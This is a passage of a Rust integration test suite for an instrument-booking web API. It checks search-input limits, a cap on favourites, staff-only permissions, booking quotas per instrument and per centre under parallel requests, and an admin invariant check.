    expect_refusal(client().post(url("/api/me/calendar-feed/rotate")), 401, "unauthorized").await;
}

#[tokio::test]
async fn search_input_past_d1s_limits_is_answered_not_crashed() {
    // A long query of several words searches by every word (each within D1's 50-byte LIKE limit).
    let q = "場發射 掃描式 電子顯微鏡 分析儀器 元素分析";
    assert!(q.len() > 48);
    let r = client().get(url("/api/instruments")).query(&[("q", q)]).send().await.unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let v: Value = get_json(&client(), &format!("/api/instruments?q={}&per_page=100", "顯微%20儀")).await;
    let hits = v["instruments"].as_array().cloned().unwrap_or_default();
    assert!(!hits.is_empty());
    for h in &hits {
        let text = format!("{}{}{}{}", h["name_zh"], h["name_en"], h["category"], h["description"]);
        assert!(text.contains("顯微") && text.contains('儀'), "every word matches: {text}");
    }
    // One word longer than a LIKE pattern may be, too many words, or too long a query: 422, saying why.
    let refused = [
        "顯".repeat(17),
        "a".repeat(49),
        (1..=9).map(|n| format!("w{n}")).collect::<Vec<_>>().join(" "),
        "顯 ".repeat(60),
    ];
    for q in refused {
        let e = expect_refusal(client().get(url("/api/instruments")).query(&[("q", &q)]), 422, "invalid").await;
        assert!(e["message"].as_str().unwrap().starts_with("q:"), "{e}");
    }
    for field in ["center", "category"] {
        let long = "x".repeat(200);
        expect_refusal(client().get(url("/api/instruments")).query(&[(field, &long)]), 422, "invalid").await;
    }
}

#[tokio::test]
async fn favourites_and_their_free_check_stay_within_d1s_budget() {
    let inst = instruments_where(false, false).await;
    let (me, _) = signed_in("many-favs").await;
    // commons_domain::booking::MAX_FAVORITES.
    let max = 20;
    for i in &inst[..max] {
        let r = me.put(url(&format!("/api/me/favorites/{}", i["id"]))).json(&json!({"substitutes": []})).send();
        assert_eq!(r.await.unwrap().status(), 204);
    }
    // One more is refused; changing an existing one is not.
    let extra = &inst[max]["id"];
    let e = expect_refusal(me.put(url(&format!("/api/me/favorites/{extra}"))).json(&json!({})), 409, "conflict").await;
    assert!(e["message"].as_str().unwrap().contains(&max.to_string()), "{e}");
    let subs: Vec<&Value> = inst[max..max + 5].iter().map(|i| &i["id"]).collect();
    let first = &inst[0]["id"];
    let r = me.put(url(&format!("/api/me/favorites/{first}"))).json(&json!({ "substitutes": subs })).send();
    assert_eq!(r.await.unwrap().status(), 204);
    // Every favourite with its substitutes and whether each is free, in one answer.
    let slot = weekday_slot(15, 10, 1);
    let v = get_json(&me, &format!("/api/me/favorites?start={}&end={}", slot.0, slot.1)).await;
    let favs = v["favorites"].as_array().cloned().unwrap_or_default();
    assert_eq!(favs.len(), max, "{v}");
    assert_eq!(favs[0]["instrument"]["id"], *first);
    assert_eq!(favs[0]["substitutes"].as_array().map(Vec::len), Some(5));
    assert!(favs.iter().all(|f| f["free"].is_boolean()));
    let q: Value = get_json(&me, "/api/me/quick-instruments").await;
    assert_eq!(q["instruments"].as_array().map(Vec::len), Some(max));
    // The free check covers a booking's day, not a season.
    let (s, e) = (weekday_slot(2, 9, 0).0, weekday_slot(40, 9, 0).0);
    expect_refusal(me.get(url(&format!("/api/me/favorites?start={s}&end={e}"))), 422, "invalid").await;
}

#[tokio::test]
async fn only_staff_of_the_centre_record_training_whatever_they_send() {
    let inst = instruments_where(false, true).await;
    let id = inst[0]["id"].as_i64().unwrap();
    let (member, _) = signed_in("train-member").await;
    // A malformed or empty body from someone who may not record training is still a 403.
    for body in [json!({}), json!({"user_id": "x"})] {
        expect_refusal(member.post(url(&format!("/api/instruments/{id}/trainings"))).json(&body), 403, "forbidden")
            .await;
    }
    expect_refusal(
        client().post(url(&format!("/api/instruments/{id}/trainings"))).json(&json!({})),
        401,
        "unauthorized",
    )
    .await;
}

/// A weekly series of one-hour bookings from the `day`th weekday at `hour`.
fn series(instrument: i64, day: i64, hour: i64, weeks: u32) -> Value {
    let mut r = req(instrument, &weekday_slot(day, hour, 1), "cash");
    r["repeat_weeks"] = json!(weeks);
    r
}

/// How many of `c`'s bookings hold their slot.
async fn held(c: &reqwest::Client) -> usize {
    let mine = get_json(c, "/api/me/bookings?per_page=100").await;
    mine["bookings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|b| b["status"] == "confirmed" || b["status"] == "pending")
        .count()
}

#[tokio::test]
async fn one_member_cannot_hold_every_free_slot() {
    let at: Vec<i64> = instruments_where(false, false)
        .await
        .iter()
        .filter(|i| i["center_id"] == "ntu-ic")
        .filter_map(|i| i["id"].as_i64())
        .collect();
    assert!(at.len() >= 5, "free instruments at ntu-ic: {at:?}");
    let (a, _) = signed_in("hoarder").await;
    // Ten future bookings of one instrument by default: eight weeks fit, three more weeks do not,
    // and the refused series leaves nothing behind.
    assert_eq!(book(&a, series(at[0], 1, 9, 8)).await.status(), 201);
    let e = expect_error(book(&a, series(at[0], 1, 11, 3)).await, 409, "conflict").await;
    assert!(e["message"].as_str().unwrap().contains("instrument"), "{e}");
    assert_eq!(held(&a).await, 8, "a series over the limit is refused whole");
    assert_eq!(book(&a, series(at[0], 1, 11, 2)).await.status(), 201);
    expect_error(book(&a, req(at[0], &weekday_slot(2, 14, 1), "cash")).await, 409, "conflict").await;
    // Another instrument of the centre still books.
    assert_eq!(book(&a, req(at[1], &weekday_slot(2, 14, 1), "cash")).await.status(), 201);

    // Staff of the centre set the instrument's limits; nobody else may.
    let (staff, _) = user_with_role("limit-staff", "facility_staff", Some("ntu-ic")).await;
    let patch = |c: &reqwest::Client, id: i64, body: Value| c.patch(url(&format!("/api/instruments/{id}"))).json(&body);
    expect_refusal(patch(&a, at[0], json!({"max_future_bookings": 11})), 403, "forbidden").await;
    let v = send_json(patch(&staff, at[0], json!({"max_future_bookings": 11}))).await;
    assert_eq!(v["instrument"]["limits"]["max_future_bookings"], 11, "{v}");
    for bad in [json!({"max_future_bookings": 0}), json!({"max_future_hours": 0}), json!({"max_future_hours": 100_000})]
    {
        expect_refusal(patch(&staff, at[0], bad), 422, "invalid").await;
    }
    assert_eq!(book(&a, req(at[0], &weekday_slot(2, 14, 1), "cash")).await.status(), 201);
    // Hours count as well as bookings.
    let (b, _) = signed_in("hours").await;
    send_json(patch(&staff, at[2], json!({"max_future_hours": 5}))).await;
    assert_eq!(book(&b, req(at[2], &weekday_slot(3, 9, 4), "cash")).await.status(), 201);
    expect_error(book(&b, req(at[2], &weekday_slot(3, 13, 2), "cash")).await, 409, "conflict").await;
    assert_eq!(book(&b, req(at[2], &weekday_slot(3, 13, 1), "cash")).await.status(), 201);

    // Parallel requests cannot get past the limit: the database decides each one.
    let (c, _) = signed_in("racing-hoarder").await;
    let slots: Vec<(String, String)> =
        (4..8).flat_map(|day| [9, 11, 13, 15].map(|hour| weekday_slot(day, hour, 1))).collect();
    // Each settled as the 200-way race is: a request the dev proxy drops (503) is sent again, and one whose
    // first try had already committed counts as booked. The limit is still decided by the database alone.
    let results =
        futures_util::future::join_all(slots.iter().map(|s| booking::book_final(&c, req(at[4], s, "cash")))).await;
    let mut codes: Vec<u16> = results.iter().map(|(status, _)| *status).collect();
    codes.sort();
    assert_eq!(codes, [vec![201; 10], vec![409; 6]].concat());
    assert_eq!(held(&c).await, 10);

    // The centre's limit, over all its instruments: staff set it; the others are refused.
    let limits = |c: &reqwest::Client, center: &str, body: Value| {
        c.put(url(&format!("/api/centers/{center}/booking-limits"))).json(&body)
    };
    let low = json!({"max_future_bookings": 14, "max_future_hours": 90});
    expect_refusal(limits(&a, "ntu-ic", low.clone()), 403, "forbidden").await;
    let (other, _) = user_with_role("limit-other", "facility_staff", Some("nthu-ic")).await;
    expect_refusal(limits(&other, "ntu-ic", low.clone()), 403, "forbidden").await;
    expect_refusal(limits(&client(), "ntu-ic", low.clone()), 401, "unauthorized").await;
    expect_refusal(limits(&admin().await, "no-such-centre", low.clone()), 404, "not_found").await;
    expect_refusal(limits(&staff, "ntu-ic", json!({"max_future_bookings": 0, "max_future_hours": 90})), 422, "invalid")
        .await;
    let v = send_json(limits(&staff, "ntu-ic", low)).await;
    assert_eq!(v["limits"]["max_future_bookings"], 14, "{v}");
    // `a` holds 12 at the centre: two more, then the centre says no.
    assert_eq!(book(&a, req(at[3], &weekday_slot(4, 9, 1), "cash")).await.status(), 201);
    assert_eq!(book(&a, req(at[3], &weekday_slot(4, 11, 1), "cash")).await.status(), 201);
    let e = expect_error(book(&a, req(at[3], &weekday_slot(4, 13, 1), "cash")).await, 409, "conflict").await;
    assert!(e["message"].as_str().unwrap().contains("centre"), "{e}");
    let inst = get_json(&client(), &format!("/api/instruments/{}", at[3])).await;
    assert_eq!(inst["instrument"]["center_limits"]["max_future_bookings"], 14, "{inst}");
    // Cancelling one frees room for another.
    let mine = get_json(&a, "/api/me/bookings?per_page=100").await;
    let one = mine["bookings"][0]["id"].as_str().unwrap().to_string();
    assert_eq!(a.post(url(&format!("/api/bookings/{one}/cancel"))).send().await.unwrap().status(), 200);
    assert_eq!(book(&a, req(at[3], &weekday_slot(4, 13, 1), "cash")).await.status(), 201);
    // Back to the defaults for the other tests.
    let v = send_json(limits(&staff, "ntu-ic", json!({"max_future_bookings": 30, "max_future_hours": 90}))).await;
    assert_eq!(v["limits"]["max_future_hours"], 90);
    assert_invariants_hold().await;
}

/// The admin's invariant check still finds nothing wrong.
async fn assert_invariants_hold() {
    let v = get_json(&admin().await, "/api/admin/invariants").await;
    assert_eq!(v["overlapping_active_bookings"], 0, "{v}");
    assert_eq!(v["quota_ledger_mismatches"], 0, "{v}");
}
